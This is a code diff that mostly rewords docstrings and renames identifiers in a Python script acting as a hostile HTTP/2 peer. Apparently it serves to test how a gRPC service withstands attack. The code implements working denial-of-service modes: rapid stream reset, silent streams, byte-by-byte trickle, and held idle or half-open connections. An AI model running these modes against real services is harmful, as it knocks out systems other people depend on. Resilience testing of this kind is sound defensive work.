@@ -1,7 +1,7 @@
-"""A hostile peer, in a process of its own: HTTP/2 frames made by hand, and silent sockets.
+"""A hostile peer as a separate process: hand-made HTTP/2 frames, and silent sockets.
 
-Every mode holds what it can for `--seconds` and opens again what the service closed. One line on
-stdout says when the attack is under way, another one how much of it there was.
+Every mode keeps its connections for `--seconds` and reopens those that the service closes. It
+prints one line when the attack has started, and the counts of the attack as JSON at the end.
 """
 
 from __future__ import annotations
@@ -40,40 +40,40 @@ Work = Callable[["HostilePeer", int], Coroutine[None, None, None]]
 
 
 class HostilePeer:
-    """What all connections of one attack share.
+    """The state that all connections of one attack share.
 
     Args:
-        host: of the service.
-        port: of the service.
-        seconds: how long the attack lasts.
-        path: gRPC method that streams are opened for.
-        message: sent by `trickle`, a byte at a time.
+        host: host of the service.
+        port: port of the service.
+        seconds: duration of the attack.
+        path: gRPC method of the streams.
+        message: bytes that `trickle` sends one at a time.
     """
 
     def __init__(self, host: str, port: int, seconds: float, path: str, message: bytes) -> None:
         self._address = host, port
-        self._ends = time.monotonic() + seconds
+        self.deadline = time.monotonic() + seconds
         self.path = path
         self.message = message
         self.counts: Counter[str] = Counter()
 
     async def connected(self, first: bytes) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
-        """A new connection on which `first` was sent."""
+        """Open a connection and send `first`."""
         reader, writer = await asyncio.open_connection(*self._address)
         self.counts["connections"] += 1
         writer.write(first)
         return reader, writer
 
-    async def again(self, work: Work, number: int) -> None:
-        """Work until the attack ends, anew when the service closed the connection."""
-        while time.monotonic() < self._ends:
+    async def repeat(self, work: Work, number: int) -> None:
+        """Repeat the work whenever the service closes the connection, until the attack ends."""
+        while time.monotonic() < self.deadline:
             with suppress(*CLOSED):
                 await work(self, number)
             await asyncio.sleep(REOPEN_SECONDS)
 
 
 async def drain_input(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-    """Read and acknowledge settings and pings, as a live HTTP/2 peer does, until the end."""
+    """Read frames and acknowledge SETTINGS and PING, as a live HTTP/2 peer does, until the end."""
     while True:
         head = await reader.readexactly(9)
         body = await reader.readexactly(int.from_bytes(head[:3], "big"))
@@ -84,13 +84,14 @@ async def drain_input(reader: asyncio.StreamReader, writer: asyncio.StreamWriter
 
 
 async def rapid_reset(peer: HostilePeer, number: int) -> None:
-    """Streams that are opened and reset at once, as fast as they are taken."""
+    """Open and reset streams as fast as the service accepts them."""
     reader, writer = await peer.connected(opening())
     reading = asyncio.create_task(drain_input(reader, writer))
     try:
+        # Clients use odd stream ids up to 2^31 - 1; each batch opens 100 streams.
         for start in range(1, 2**31 - 400, 200):
             batch = range(start, start + 200, 2)
-            writer.write(b"".join(call(each, peer.path) + reset(each) for each in batch))
+            writer.write(b"".join(call(stream, peer.path) + reset(stream) for stream in batch))
             peer.counts["streams"] += len(batch)
             await writer.drain()
             if reading.done():
@@ -101,7 +102,7 @@ async def rapid_reset(peer: HostilePeer, number: int) -> None:
 
 
 async def silent_streams(peer: HostilePeer, number: int) -> None:
-    """Streams that are opened and say nothing."""
+    """Open streams and send nothing on them."""
     reader, writer = await peer.connected(opening())
     try:
         for stream in range(1, 2 * STREAMS_A_CONNECTION, 2):
@@ -114,7 +115,7 @@ async def silent_streams(peer: HostilePeer, number: int) -> None:
 
 
 async def trickle(peer: HostilePeer, number: int) -> None:
-    """A stream whose question comes a byte at a time."""
+    """Open a stream and send its question one byte at a time."""
     reader, writer = await peer.connected(opening() + call(1, peer.path))
     reading = asyncio.create_task(drain_input(reader, writer))
     peer.counts["streams"] += 1
@@ -130,7 +131,9 @@ async def trickle(peer: HostilePeer, number: int) -> None:
         writer.close()
 
 
-def _holding(first: bytes, live: bool = False) -> Work:
+def _hold_connection(first: bytes, live: bool = False) -> Work:
+    """Work that sends `first` and keeps the connection; if `live`, it acknowledges frames."""
+
     async def hold(peer: HostilePeer, number: int) -> None:
         reader, writer = await peer.connected(first)
         try:
@@ -148,33 +151,33 @@ MODES: dict[str, Work] = {
     "rapid_reset": rapid_reset,
     "silent_streams": silent_streams,
     "trickle": trickle,
-    "idle": _holding(b""),
-    "preface": _holding(PREFACE),
-    "settings": _holding(opening(), live=True),
-    "half_head": _holding(HALF_HEAD),
+    "idle": _hold_connection(b""),
+    "preface": _hold_connection(PREFACE),
+    "settings": _hold_connection(opening(), live=True),
+    "half_head": _hold_connection(HALF_HEAD),
 }
 
 
 async def attack(peer: HostilePeer, work: Work, connections: int) -> None:
-    """All connections of the attack, until its time is over."""
-    tasks = [asyncio.create_task(peer.again(work, number)) for number in range(connections)]
+    """Run all connections of the attack until its time is over."""
+    tasks = [asyncio.create_task(peer.repeat(work, number)) for number in range(connections)]
     await asyncio.sleep(1)
     print("attacking", flush=True)
-    await asyncio.sleep(max(0.0, peer._ends - time.monotonic()))
+    await asyncio.sleep(max(0.0, peer.deadline - time.monotonic()))
     for task in tasks:
         task.cancel()
     await asyncio.gather(*tasks, return_exceptions=True)
 
 
 def main() -> int:
-    """Attack; prints what there was of it as JSON."""
+    """Run the attack and print its counts as JSON."""
     parser = argparse.ArgumentParser(description=__doc__)
     parser.add_argument("mode", choices=MODES)
     parser.add_argument("target", help="host:port")
     parser.add_argument("--connections", type=int, default=4)
     parser.add_argument("--seconds", type=float, default=20)
     parser.add_argument("--path", default=ASK)
-    parser.add_argument("--message", type=Path, help="file with a message, for trickle")
+    parser.add_argument("--message", type=Path, help="file with a serialised message, for trickle")
     options = parser.parse_args()
     _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
